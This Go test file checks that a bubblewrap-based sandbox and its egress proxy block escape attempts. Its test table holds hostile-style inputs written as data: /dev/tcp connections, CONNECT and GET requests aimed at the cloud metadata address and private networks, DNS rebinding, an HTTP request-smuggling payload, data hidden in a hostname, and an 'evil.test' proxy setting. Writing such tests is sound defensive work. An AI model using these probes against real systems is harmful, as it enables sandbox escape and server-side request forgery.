package egress

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"rnix/internal/proc"
	"rnix/internal/sandbox"
)

// boxes start command lines in boxes whose network is of hosts.
type boxes struct {
	t     *testing.T
	m     *proc.Manager
	plan  sandbox.Plan
	self  string
	work  string
	proxy *Proxy
}

// newBoxes needs bubblewrap. Commands may reach what rules name.
func newBoxes(t *testing.T, w *world, rules ...string) *boxes {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b := &boxes{t: t, self: self, work: filepath.Join(dir, "work"), proxy: w.proxy()}
	if err := os.Mkdir(b.work, 0o700); err != nil {
		t.Fatal(err)
	}
	if b.m, err = proc.NewManager(filepath.Join(dir, "children"), nil); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.m.Close)
	host := sandbox.Probe(t.Context(), func(ctx context.Context, plan sandbox.Plan, c sandbox.Command) (int, string, error) {
		errs := proc.NewRing(0)
		child, err := b.m.Start(ctx, proc.Spec{Kind: proc.KindShell, Path: c.Path, Args: c.Args, Dir: c.Dir, Env: c.Env, Stderr: errs, Box: &proc.Box{Plan: plan}})
		if err != nil {
			return 0, "", err
		}
		exit := child.Wait()
		return exit.Code, errs.String(), exit.Err
	}, self, sandbox.FindBwrap(os.Getenv("PATH")))
	if !host.Bwrap.Proved {
		t.Skipf("needs a host where bubblewrap works: %s", host.Bwrap.Reason)
	}
	policy := sandbox.Standard(sandbox.Place{Work: b.work})
	policy.Net, policy.Hosts = sandbox.NetHosts, rules
	if b.plan, err = sandbox.MakePlan(policy, host, sandbox.Disk{}); err != nil {
		t.Fatal(err)
	}
	return b
}

// start starts a command line, whose output goes to out.
func (b *boxes) start(line string, out *bytes.Buffer) *proc.Child {
	b.t.Helper()
	box := proc.Box{Plan: b.plan, Env: []string{"PATH=" + os.Getenv("PATH"), "HTTP_PROXY=http://evil.test:1", "ftp_proxy=x"}}
	if err := Fit(&box, b.proxy, Client{}); err != nil {
		b.t.Fatal(err)
	}
	child, err := b.m.Start(b.t.Context(), proc.Spec{Kind: proc.KindShell, Path: "/bin/bash", Args: []string{"-c", line}, Dir: b.work, Box: &box, Stdout: out, Stderr: out})
	if err != nil {
		b.t.Fatal(err)
	}
	return child
}

// run runs a command line and returns what it has printed, and what was refused.
func (b *boxes) run(line string) (out string, refused []string) {
	b.t.Helper()
	var text bytes.Buffer
	exit := b.start(line, &text).Wait()
	for _, r := range exit.Refused {
		refused = append(refused, r.Target)
	}
	return strings.TrimSpace(text.String()), refused
}

// by asks the proxy for a URL with a program that is everywhere, and prints the status.
func by(request string) string {
	return fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/3128; printf %s >&3; read -r _ status _ <&3; echo "status $status"`, "'"+strings.ReplaceAll(request, "\r\n", `\r\n`)+"'")
}

// TestEscapeFromANetworkOfHosts has commands try to get to where they must not.
func TestEscapeFromANetworkOfHosts(t *testing.T) {
	w := &world{names: map[string][]string{
		"a.test": {public}, "rebound.test": {public, "127.0.0.1"}, "metadata.test": {"169.254.169.254"}, "inner.test": {"10.0.0.1"}, "mapped.test": {"::ffff:127.0.0.1"},
	}}
	w.serve(t, public+":80", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, "welcome") }))
	outside, err := net.Listen("tcp", "127.0.0.1:0") // as the daemon's own, and what else is on the loopback of this machine
	if err != nil {
		t.Fatal(err)
	}
	reached := make(chan string, 100)
	var work sync.WaitGroup
	work.Go(func() { // ends with the listener; waited for below
		for {
			conn, err := outside.Accept()
			if err != nil {
				return
			}
			reached <- "tcp"
			_ = conn.Close()
		}
	})
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	work.Go(func() { // likewise
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 100)); err != nil {
				return
			}
			reached <- "udp"
		}
	})
	defer work.Wait()
	defer udp.Close()
	defer outside.Close()
	_, port, err := net.SplitHostPort(outside.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	_, udpPort, err := net.SplitHostPort(udp.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	b := newBoxes(t, w, "a.test", "rebound.test:*", "metadata.test", "inner.test", "mapped.test")
	python := func(text string) string { return "python3 -c '" + text + "'" }
	for _, a := range []struct{ name, line, want, refused string }{
		{"what is allowed works", "curl -sS http://a.test", "welcome", ""},
		{"connect to the loopback of this machine", "exec 3<>/dev/tcp/127.0.0.1/" + port, "*refused*", ""},
		{"connect to a public address", "exec 3<>/dev/tcp/" + public + "/80", "*unreachable*", ""},
		{"connect by IPv6", "exec 3<>/dev/tcp/2001:4860:4860::8888/53", "*unreachable*", ""},
		{"connect to the loopback by IPv6", "exec 3<>/dev/tcp/::1/" + port, "*refused*", ""},
		{"ask a name server", python(`import socket; socket.setdefaulttimeout(5); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("8.8.8.8", 53)); print(s.recv(10))`), "*unreachable*", ""},
		{"look up a name", "getent hosts a.test || echo none", "none", ""},
		{"send UDP to the loopback of this machine", python(`import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", ` + udpPort + `)); print("sent")`), "sent", ""},
		{"make a raw socket", python(`import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)`), "*not permitted*", ""},
		{"make a Unix socket", python(`import socket; socket.socket(socket.AF_UNIX)`), "*not permitted*", ""},
		{"give itself an address", "ip link add dummy0 type dummy 2>&1 || echo no", "*no*", ""},
		{"CONNECT to the loopback", by("CONNECT 127.0.0.1:" + port + " HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "127.0.0.1:" + port},
		{"CONNECT to the loopback as a number", by("CONNECT 2130706433:" + port + " HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "127.0.0.1:" + port},
		{"CONNECT to localhost", by("CONNECT localhost:" + port + " HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "localhost:" + port},
		{"CONNECT to the proxy itself", by("CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "127.0.0.1:3128"},
		{"CONNECT to the metadata by its address", by("CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "169.254.169.254:80"},
		{"CONNECT to the metadata by a name", by("CONNECT metadata.test:80 HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "metadata.test:80"},
		{"GET from the metadata by a name", by("GET http://metadata.test/latest HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "metadata.test:80"},
		{"reach a private net by a name", by("GET http://inner.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "inner.test:80"},
		{"reach the loopback by an address of IPv6", by("CONNECT mapped.test:80 HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "mapped.test:80"},
		{"have a name rebound", "curl -sS http://rebound.test; echo; curl -sS -o /dev/null -w '%{http_code}' http://rebound.test:" + port, "welcome\n403", "rebound.test:" + port},
		{"reach another host by the Host header", by("GET http://b.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "b.test:80"},
		{"reach another host with a name before it", by("GET http://a.test@b.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 400", ""},
		{"reach another port", by("CONNECT a.test:22 HTTP/1.1\r\nHost: a.test\r\n\r\n"), "status 403", "a.test:22"},
		{"send what is in the name", "curl -sS -o /dev/null -w '%{http_code}' http://secret.a.test", "403", "secret.a.test:80"},
		{"hide a request in the body of another, which is judged for itself", by("POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://b.test/ HTTP/1.1\r\nHost: b.test\r\n\r\n") + "; cat <&3 | grep -c b.test:80", "status 200\n1", "b.test:80"},
		{"take the port of the proxy", python(`import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 3128))`), "*already in use*", ""},
		{"take the port at all addresses", python(`import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(("0.0.0.0", 3128))`), "*already in use*", ""},
		{"find the listener among descriptors", "ls -l /proc/[0-9]*/fd 2>/dev/null | grep -c 'socket:'", "0", ""},
		{"use the proxy that was set outside", "echo $HTTP_PROXY $http_proxy $ftp_proxy $NO_PROXY", "http://127.0.0.1:3128 http://127.0.0.1:3128 127.0.0.1,localhost,::1", ""},
	} {
		t.Run(a.name, func(t *testing.T) {
			b.t = t
			out, refused := b.run(a.line)
			ok := out == a.want
			if part := strings.Trim(a.want, "*"); part != a.want {
				ok = strings.Contains(out, part)
			}
			if !ok || strings.Join(refused, " ") != a.refused {
				t.Errorf("%q, refused: %q; want %q, %q", out, refused, a.want, a.refused)
			}
		})
	}
	select {
	case by := <-reached:
		t.Errorf("the loopback of this machine was reached by %s", by)
	default:
	}
	if _, dialed := w.seen(); strings.Trim(strings.ReplaceAll(dialed, public+":80", ""), " ") != "" {
		t.Errorf("dialed: %s", dialed)
	}
}

// Each command has a proxy of its own at the same port, also beside others of its process, and it is gone with the command.
func TestProxyIsOfOneCommand(t *testing.T) {
	w := &world{names: map[string][]string{"a.test": {public}}}
	w.serve(t, public+":80", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, r.URL.Path) }))
	b := newBoxes(t, w, "a.test")
	var outs [4]bytes.Buffer
	var children []*proc.Child
	for i := range outs {
		children = append(children, b.start(fmt.Sprintf("curl -sS http://a.test/%d; curl -sS -o /dev/null http://b%d.test; (sleep 1000; curl -sS http://a.test/late) & disown", i, i), &outs[i]))
	}
	for i, child := range children {
		exit := child.Wait()
		if got := outs[i].String(); got != fmt.Sprintf("/%d", i) || len(exit.Refused) != 1 || exit.Refused[0].Target != fmt.Sprintf("b%d.test:80", i) {
			t.Errorf("command %d: %q, %+v", i, got, exit.Refused)
		}
	}
	// nothing is left of the proxies: neither in this network nor in one of another command
	if conn, err := net.Dial("tcp", "127.0.0.1:3128"); err == nil {
		_ = conn.Close()
		t.Error("the proxy of a box is reached from outside")
	}
}
